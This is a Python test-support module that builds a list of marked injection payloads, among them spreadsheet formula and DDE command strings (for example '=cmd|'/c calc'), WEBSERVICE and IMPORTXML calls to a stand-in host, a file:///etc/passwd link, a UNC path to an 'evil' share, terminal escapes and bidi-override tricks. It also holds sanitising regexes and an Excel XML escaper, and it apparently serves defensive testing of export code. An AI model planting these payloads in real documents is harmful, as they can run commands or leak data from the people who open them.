"""What a sender may type to make somebody else's program do something; each holds a mark that it is found by."""

from __future__ import annotations

import re

MARK = re.compile(r"Zq\d\d")

TEMPLATES = (
    '=1+1&"{m}"', "+{m}", "-{m}+1", "@SUM({m})", "\t={m}", "\r={m}", "\n={m}", " ={m}", "'={m}", '"={m}', "＝{m}",
    "=cmd|'/c calc {m}'!A0", "=MSEXCEL|'\\..\\{m}'!''", '=HYPERLINK("http://x.cn/{m}","点")', '=DDE("cmd";"/c {m}";"x")',
    '=IMPORTXML("http://x.cn/{m}","//a")', '=WEBSERVICE("http://x.cn/{m}")', "{{=SUM({m})}}", "=A1\n{m}", "- 完成{m}",
    "http://x.cn/{m}", "mailto:a@b.cn?{m}", "file:///etc/passwd#{m}", "\\\\evil\\share\\{m}", "{m},=1+1",
    "{m}_x0007_", "{m}_x000D_=1", "{m}\x07\x08\x0b\x0c\x7f", "\x00{m}", "{m}\ud800", "{m}\ufffe", "\x1b[31m{m}\x1b[0m",
    "\x1b]0;{m}\x07", "\x1b[2J{m}", "{m}\x9b2J", "{m}\u202egpj.xlsx", "{m}\u2066\u2069\u200f", "{m}\u2028=1",
    "{m}\u200b\ufeff", "\U000e0041{m}", "[bold]{m}[/bold]", "[/]{m}", "[link=http://x.cn]{m}[/link]", ":smile:{m}",
    "<script>{m}</script>", "]]>&amp;{m}", "%s%n{m}", "{{0}}{{file}}{m}",
)  # fmt: skip
PAYLOADS = tuple(template.format(m=f"Zq{number:02}") for number, template in enumerate(TEMPLATES))

CONTROL = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]"
)
"""What no text of a sender may bring into anything we write."""
ALWAYS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x84\x86-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]")
"""What nothing we write holds. Official text is not corrected: a mark of direction in it, obeyed by nobody, stays."""


def stored(text: str) -> str:
    """The text as a sheet's XML holds it: what XML cannot hold as Excel's _xHHHH_."""
    text = re.sub("_(?=x[0-9A-Fa-f]{4}_)", "_x005F_", text)
    text = re.sub("[\x00-\x08\x0b-\x1f\x7f\ud800-\udfff\ufffe\uffff]", lambda found: f"_x{ord(found[0]):04X}_", text)
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
